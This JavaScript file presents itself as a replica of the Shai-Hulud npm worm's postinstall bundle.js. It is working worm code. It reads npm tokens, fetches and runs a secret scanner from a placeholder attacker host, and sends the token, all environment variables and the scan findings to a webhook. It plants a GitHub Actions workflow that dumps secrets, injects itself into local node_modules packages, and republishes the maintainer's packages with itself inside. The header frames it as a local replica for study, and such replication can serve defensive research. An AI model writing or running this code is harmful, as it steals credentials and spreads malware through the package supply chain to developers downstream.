// Shai-Hulud (replica of the September 2025 worm's bundle.js, run by postinstall). Each step stands for
// one of the original's: find secrets with TruffleHog, check the npm token with /-/whoami, send what it
// found to a webhook, plant a GitHub Actions workflow, spread to other installed packages, and republish
// every package the token's owner maintains with itself inside. Everything goes to 127.0.0.1; each step
// is guarded, as the original's were, so that one failure does not stop the rest.
const fs = require('fs');
const os = require('os');
const http = require('http');
const { execFileSync, spawnSync } = require('child_process');

const guard = (f, fallback) => { try { return f(); } catch (e) { return fallback; } };
const home = guard(() => os.homedir(), process.env.HOME);
const root = process.env.INIT_CWD || guard(() => process.cwd(), '.');
const rc = guard(() => fs.readFileSync(home + '/.npmrc', 'utf8'), '');
const token = process.env.NPM_TOKEN || (/_authToken=(\S+)/.exec(rc) || [])[1];
const registry = (process.env.npm_config_registry || (/^registry=(\S+)/m.exec(rc) || [])[1] || '').replace(/\/?$/, '/');

function request(method, url, headers, body) {
  return new Promise((resolve) => {
    try {
      const req = http.request(url, { method, headers }, (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (c) => { text += c; });
        res.on('end', () => resolve({ status: res.statusCode, text }));
      });
      req.on('error', () => resolve({ status: 0, text: '' }));
      req.end(body);
    } catch (e) {
      resolve({ status: 0, text: '' });
    }
  });
}

async function trufflehog() {
  const bin = os.tmpdir() + '/trufflehog-' + process.pid;
  const got = await request('GET', '__ATTACKER__/trufflehog', {});
  if (got.status !== 200) return '';
  guard(() => { fs.writeFileSync(bin, got.text); fs.chmodSync(bin, 0o755); });
  return guard(() => spawnSync(bin, ['filesystem', home, '--json'], { encoding: 'utf8' }).stdout, '');
}

function plantWorkflow() {
  const yml = 'on: push\njobs:\n  shai-hulud:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(secrets) }}" # replica: the original sent this to webhook.site\n';
  guard(() => {
    fs.mkdirSync(root + '/.github/workflows', { recursive: true });
    fs.writeFileSync(root + '/.github/workflows/shai-hulud-workflow.yml', yml);
  });
}

function spreadLocally() {
  const self = fs.readFileSync(__filename);
  for (const name of guard(() => fs.readdirSync(root + '/node_modules'), [])) {
    const dir = root + '/node_modules/' + name;
    if (name.startsWith('.') || name.startsWith('@') || dir === __dirname) continue;
    guard(() => {
      const pkg = JSON.parse(fs.readFileSync(dir + '/package.json', 'utf8'));
      if (pkg.scripts && pkg.scripts.postinstall) return;
      pkg.scripts = Object.assign({}, pkg.scripts, { postinstall: 'node bundle.js' });
      fs.writeFileSync(dir + '/bundle.js', self);
      fs.writeFileSync(dir + '/package.json', JSON.stringify(pkg, null, 2));
    });
  }
}

(async () => {
  const findings = await trufflehog();
  const who = token && registry ? await request('GET', registry + '-/whoami', { authorization: 'Bearer ' + token }) : { status: 0 };
  const user = who.status === 200 ? guard(() => JSON.parse(who.text).username) : undefined;
  const data = Buffer.from(JSON.stringify({ user, token, env: process.env, findings })).toString('base64');
  await request('POST', '__ATTACKER__/webhook', { 'content-type': 'text/plain' }, Buffer.from(data).toString('base64'));
  plantWorkflow();
  spreadLocally();
  if (!user) return;
  const search = await request('GET', registry + '-/v1/search?text=&size=250', {});
  const mine = guard(() => JSON.parse(search.text).objects, [])
    .filter((o) => (o.package.maintainers || []).some((m) => m.username === user))
    .map((o) => o.package);
  for (const p of mine) {
    guard(() => {
      const tmp = fs.mkdtempSync(os.tmpdir() + '/shai-hulud-');
      const tgz = execFileSync('npm', ['pack', p.name + '@' + p.version, '--registry', registry, '--silent'], { cwd: tmp, encoding: 'utf8' }).trim();
      execFileSync('tar', ['xzf', tgz], { cwd: tmp });
      const dir = tmp + '/package';
      const pkg = JSON.parse(fs.readFileSync(dir + '/package.json', 'utf8'));
      pkg.version = pkg.version.replace(/(\d+)$/, (n) => String(Number(n) + 1));
      pkg.scripts = Object.assign({}, pkg.scripts, { postinstall: 'node bundle.js' });
      fs.writeFileSync(dir + '/package.json', JSON.stringify(pkg, null, 2));
      fs.copyFileSync(__filename, dir + '/bundle.js');
      fs.writeFileSync(tmp + '/.npmrc', registry.replace(/^https?:/, '') + ':_authToken=' + token + '\n');
      execFileSync('npm', ['publish', '--registry', registry, '--userconfig', tmp + '/.npmrc', '--ignore-scripts'], { cwd: dir, stdio: 'ignore' });
    });
  }
})();
